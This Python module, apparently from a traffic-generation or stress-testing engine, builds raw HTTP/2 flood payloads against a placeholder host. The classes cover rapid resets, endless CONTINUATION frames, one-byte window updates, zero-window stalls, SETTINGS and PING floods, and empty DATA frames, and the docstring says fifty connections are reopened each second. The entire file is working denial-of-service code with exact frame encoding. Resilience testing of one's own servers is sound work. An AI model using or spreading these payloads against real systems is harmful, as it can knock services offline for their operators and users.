"""The floods of HTTP/2: fifty connections, of which fifty are reopened in a second at most. Their frames are well-formed and harmless in
themselves; each repeats what costs the other side more than its sender."""

import struct

from engine import Shape

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_HEADERS, END_STREAM = 4, 1


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(index, text):
    """A field with a name of HPACK's static table, not indexed."""
    return bytes([index, len(text)]) + text


def request(stream, path=b"/subscribe/eps", method=0x82, flags=END_HEADERS | END_STREAM):
    return frame(HEADERS, flags, stream, bytes([method, 0x86]) + literal(1, b"relay.example") + literal(4, path))


def settings(*pairs):
    return frame(SETTINGS, payload=b"".join(struct.pack(">HI", *pair) for pair in pairs))


def initial_window(size):
    return settings((4, size))


class HTTP2(Shape):
    """A connection sends all that its flood consists of at once, and lives for a second."""

    lifetime = 1.0
    greeting = settings()
    repetitions = 3_000

    def flood(self):
        raise NotImplementedError

    def __init__(self):
        # The bytes are the same for all connections, so that the sender takes as little of the machine as possible.
        self.bytes = PREFACE + self.greeting + self.flood()

    def begin(self, number):
        return self.bytes


class WindowStall(HTTP2):
    """Five thousand streams whose clients never open a window."""

    greeting, lifetime = initial_window(0), None

    def flood(self):
        return b"".join(request(number * 2 + 1) for number in range(100))


class Windows(HTTP2):
    """A window of one byte, opened again and again."""

    greeting = initial_window(0)

    def flood(self):
        return request(1) + frame(WINDOW_UPDATE, stream=1, payload=struct.pack(">I", 1)) * self.repetitions


class ConnectionWindows(HTTP2):
    """The window of a connection with a hundred streams, used up by their snapshots, and opened by one byte again and again."""

    def flood(self):
        streams = b"".join(request(number * 2 + 1, b"/subscribe/eps?snapshot=1") for number in range(100))
        return streams + frame(WINDOW_UPDATE, payload=struct.pack(">I", 1)) * self.repetitions


class RapidResets(HTTP2):
    """Requests that are taken back at once."""

    def flood(self):
        cancel = struct.pack(">I", 8)
        return b"".join(request(number * 2 + 1) + frame(RESET, stream=number * 2 + 1, payload=cancel) for number in range(self.repetitions))


class Continuations(HTTP2):
    """A block of header fields that never ends."""

    def flood(self):
        return request(1, flags=END_STREAM) + frame(CONTINUATION, stream=1, payload=b"") * self.repetitions


class SettingsFlood(HTTP2):
    """Settings that are to be acknowledged, and change all streams."""

    def flood(self):
        streams = b"".join(request(number * 2 + 1) for number in range(100))
        return streams + (initial_window(1) + initial_window(0)) * (self.repetitions // 2)


class Pings(HTTP2):
    """Pings that are to be answered."""

    def flood(self):
        return frame(PING, payload=b"trialing") * self.repetitions


class EmptyData(HTTP2):
    """A body of frames without content."""

    def flood(self):
        head = request(1, b"/subscribe/cleanup/scores", method=0x83, flags=END_HEADERS)
        return head + frame(DATA, stream=1) * self.repetitions
